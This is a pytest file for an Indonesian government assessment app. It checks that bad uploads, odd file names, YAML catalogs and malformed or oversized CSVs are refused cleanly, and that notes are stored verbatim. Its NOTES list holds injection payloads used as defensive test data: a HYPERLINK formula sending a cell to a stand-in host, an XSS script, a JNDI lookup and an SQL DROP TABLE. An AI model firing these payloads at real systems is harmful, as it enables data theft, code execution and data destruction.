"""Bad input from the outside world: every case gets one clear message in Bahasa Indonesia (and English) and
leaves the database and the evidence folder exactly as they were.

The uploads come from ``tests/corpus/make_corpus.py`` (built in memory, no binaries in the repository). Odd
file names are accepted with a cleaned display name and never become a path. Notes are stored verbatim.
Catalogs are refused whole. These corpora run on SQLite, with one case each on PostgreSQL: validation decides before
any SQL runs, and the snapshots compare the same rows either way. ``lentera score`` refuses CSVs it cannot read, and refuses a runaway file
(over ``--max-rows``, default 200,000) after parsing only that many rows, in about a second.
"""

from __future__ import annotations

import io
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import snapshot_state, sqlite_each_postgres_one
from corpus.make_corpus import PDF, BadUpload, accepted_names, catalog_cases, evidence_cases
from factories import World, build_world, submission_id

from config import get_settings
from i18n import LenteraError
from models import Evidence, session_scope
from reports.safety import neutralise
from services import catalogs, evidence, submission_views, submissions

LENTERA = Path(sys.executable).parent / "lentera"


@pytest.fixture
def world(db_url: str) -> World:
    return build_world()


@pytest.fixture
def item(world: World) -> int:
    return submission_id(world, organisation_id=world.opd_a, code="1")


def refused_cleanly(call: Callable[[], object], key: str, id_text: str) -> LenteraError:
    """The call raises ``key`` with a real Indonesian and English text, and changes nothing at all."""
    before = snapshot_state()
    with pytest.raises(LenteraError) as caught:
        call()
    error = caught.value
    assert error.key == key
    indonesian, english = error.message("id"), error.message("en")
    assert id_text in indonesian
    assert english and english != indonesian and english != key
    after = snapshot_state()
    assert after.tables == before.tables
    assert after.evidence_files == before.evidence_files  # no stray temp file either
    return error


def upload(world: World, item: int, name: str, content: bytes) -> evidence.EvidenceInfo:
    return evidence.upload_evidence(
        world.focal_a, submission_id=item, filename=name, stream=io.BytesIO(content)
    )


# --------------------------------------------------------------------------- evidence uploads


@pytest.mark.parametrize(
    ("db_url", "case"),
    sqlite_each_postgres_one([(case,) for case in evidence_cases()], ids=lambda case: case[0].name),  # type: ignore[attr-defined]
    indirect=["db_url"],
)
def test_a_hostile_or_broken_upload_is_refused_and_changes_nothing(
    world: World, item: int, case: BadUpload
) -> None:
    upload(world, item, "sk-awal.pdf", PDF)  # a store with something in it, so "unchanged" means something
    refused_cleanly(lambda: upload(world, item, case.name, case.content), case.key, case.id_text)


def test_one_byte_over_the_limit_is_refused_and_the_limit_itself_is_accepted(
    world: World, item: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LENTERA_MAX_UPLOAD_MB", "1")
    get_settings.cache_clear()
    limit = 1024 * 1024
    at_limit = PDF[:-6] + b" " * (limit - len(PDF)) + b"%%EOF\n"
    assert len(at_limit) == limit
    over = at_limit[:-6] + b" %%EOF\n"
    error = refused_cleanly(lambda: upload(world, item, "besar.pdf", over), "evidence.too_large", "1 MB")
    assert "1 MB" in error.message("en")
    assert upload(world, item, "pas.pdf", at_limit).size == limit


@pytest.mark.parametrize(
    ("db_url", "name", "shown"),
    # On PostgreSQL: the name with NUL and control characters, which a text column there would refuse.
    sqlite_each_postgres_one(accepted_names(), ids=lambda case: repr(case[0])[:30], on_postgres=3),
    indirect=["db_url"],
)
def test_odd_file_names_are_accepted_with_a_clean_display_name_never_a_path(
    world: World, item: int, name: str, shown: str
) -> None:
    data_dir = get_settings().data_dir
    outside_before = sorted(p for p in data_dir.parent.rglob("*") if data_dir not in p.parents)
    info = upload(world, item, name, PDF)
    assert info.display_name == shown
    assert len(info.display_name) <= 120
    with session_scope() as session:
        row = session.get(Evidence, info.id)
        assert row is not None and row.display_name == shown
        assert row.storage_key == f"{info.sha256[:2]}/{info.sha256[2:4]}/{info.sha256}"
    stored = [p for p in get_settings().evidence_dir.rglob("*") if p.is_file()]
    assert [p.name for p in stored] == [info.sha256]
    assert sorted(p for p in data_dir.parent.rglob("*") if data_dir not in p.parents) == outside_before
    assert [e.display_name for e in evidence.list_evidence(world.inspector, submission_id=item)] == [shown]


NOTES = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1;"klik")',
    "+62 812 3456 7890",
    "-1+1",
    "@SUM(A1:A9)",
    "<script>alert('xss')</script><b>tebal</b>",
    "**markdown** [tautan](javascript:alert(1)) ![x](http://contoh.invalid/a.png)",
    "{{ 7*7 }} ${jndi:ldap://contoh.invalid/a} '; DROP TABLE submission; --",
]


@pytest.mark.parametrize(
    ("db_url", "note"),
    # On PostgreSQL: the note that looks like SQL.
    sqlite_each_postgres_one([(note,) for note in NOTES], ids=lambda case: repr(case[0])[:30], on_postgres=6),
    indirect=["db_url"],
)
def test_notes_with_formulas_and_markup_are_stored_verbatim(world: World, item: int, note: str) -> None:
    submissions.save_draft(world.focal_a, submission_id=item, self_value=3, note=note)
    assert submission_views.item_detail(world.inspector, submission_id=item).note == note
    # Exports write such a note as text a spreadsheet will not evaluate.
    shown = neutralise(note)
    assert shown == (f"'{note}" if note[0] in "=+-@" else note)


# --------------------------------------------------------------------------- catalogs


@pytest.mark.parametrize(
    ("db_url", "name"),
    sqlite_each_postgres_one([(name,) for name in sorted(catalog_cases())], ids=lambda case: str(case[0])),
    indirect=["db_url"],
)
def test_a_broken_or_hostile_catalog_is_refused_whole(world: World, name: str) -> None:
    text = catalog_cases()[name]
    started = time.monotonic()
    error = refused_cleanly(
        lambda: catalogs.import_catalog(world.admin, text=text, source=f"{name}.yaml"),
        "catalog.invalid",
        "Katalog ditolak",
    )
    assert time.monotonic() - started < 5  # the aliases are refused, never expanded
    assert f"{name}.yaml" in error.message("id")


# --------------------------------------------------------------------------- lentera score on bad CSVs


# Linux counts a process's peak memory from before its exec too, so a child forked straight from pytest would
# inherit pytest's size. A small launcher forks ``lentera`` instead and reports that grandchild's peak (KiB).
LAUNCHER = """
import os, subprocess, sys
child = subprocess.Popen(sys.argv[2:])
_, status, usage = os.wait4(child.pid, 0)
with open(sys.argv[1], "w") as out:
    out.write(str(usage.ru_maxrss))
sys.exit(os.waitstatus_to_exitcode(status))
"""


def lentera_score(path: Path, *extra: str) -> tuple[subprocess.CompletedProcess[str], float, int]:
    """Run ``lentera score`` on ``path``; returns the result, wall seconds and peak memory (KiB) of lentera."""
    peak = path.with_suffix(".peak")
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", LAUNCHER, str(peak), str(LENTERA), "score", "--catalog", "spbe-2021", str(path),
         *extra],
        capture_output=True, text=True, cwd=path.parent, timeout=300, check=False,
    )  # fmt: skip
    return done, time.monotonic() - started, int(peak.read_text())


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("entity,code,value\nDinas Pariwisata é,1,3\n".encode("utf-16"), "berkas bukan teks UTF-8"),
        ("entity,code,value\nDinas Pariwisata é,1,3\n".encode("cp1252"), "berkas bukan teks UTF-8"),
        (b"opd;kode;nilai\nDiskominfo;1;3\n", "'entity'"),
        (b"entity,kode,value\nDiskominfo,1,3\n", "'code'"),
        (b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)), "berkas bukan teks UTF-8"),
        (b'entity,code,value\n"Diskominfo,1,3\n', "CSV tidak dapat dibaca"),
    ],
    ids=["utf16", "cp1252", "semicolons-indonesian-headers", "wrong-column", "elf", "unclosed-quote"],
)
def test_an_unreadable_scoring_csv_gets_one_clear_message(
    tmp_path: Path, content: bytes, expected: str
) -> None:
    path = tmp_path / "penilaian.csv"
    path.write_bytes(content)
    done, _, _ = lentera_score(path)
    assert done.returncode == 2
    assert expected in done.stderr
    assert done.stderr.startswith(f"{path}: ") and "Traceback" not in done.stderr  # one message
    assert done.stdout == ""


def test_utf8_with_a_byte_order_mark_and_accents_is_scored(tmp_path: Path) -> None:
    path = tmp_path / "penilaian.csv"
    path.write_bytes("entity,code,value\nDinas Pariwisata é,1,3\n".encode("utf-8-sig"))
    done, _, _ = lentera_score(path)
    assert done.returncode == 0, done.stderr
    assert "Dinas Pariwisata é" in done.stdout


def _rows_csv(path: Path, rows: int) -> Path:
    """``rows`` assessment rows: 47 SPBE leaves per entity, as many entities as it takes."""
    codes = [str(n) for n in range(1, 48)]
    with path.open("w", encoding="utf-8") as handle:
        handle.write("entity,code,value\n")
        for start in range(0, rows, 47):
            entity = f"OPD {start // 47}"
            handle.writelines(f"{entity},{code},3\n" for code in codes[: rows - start])
    return path


def test_a_million_row_csv_is_refused_quickly_with_bounded_memory(tmp_path: Path) -> None:
    path = _rows_csv(tmp_path / "sejuta.csv", 1_000_000)
    done, seconds, peak_kib = lentera_score(path)
    assert done.returncode == 2
    assert "lebih dari 200.000 baris" in done.stderr and "--max-rows" in done.stderr
    assert done.stdout == ""
    assert seconds < 10, f"took {seconds:.1f} s"
    assert peak_kib < 400 * 1024, f"peak {peak_kib / 1024:.0f} MiB"
    print(f"million-row CSV refused in {seconds:.2f} s, peak {peak_kib / 1024:.0f} MiB")


def test_a_file_at_the_row_limit_is_scored(tmp_path: Path) -> None:
    path = _rows_csv(tmp_path / "batas.csv", 1_000)
    done, _, _ = lentera_score(path, "--max-rows", "1000")
    assert done.returncode == 0, done.stderr
    over, _, _ = lentera_score(path, "--max-rows", "999")
    assert over.returncode == 2 and "lebih dari 999 baris" in over.stderr
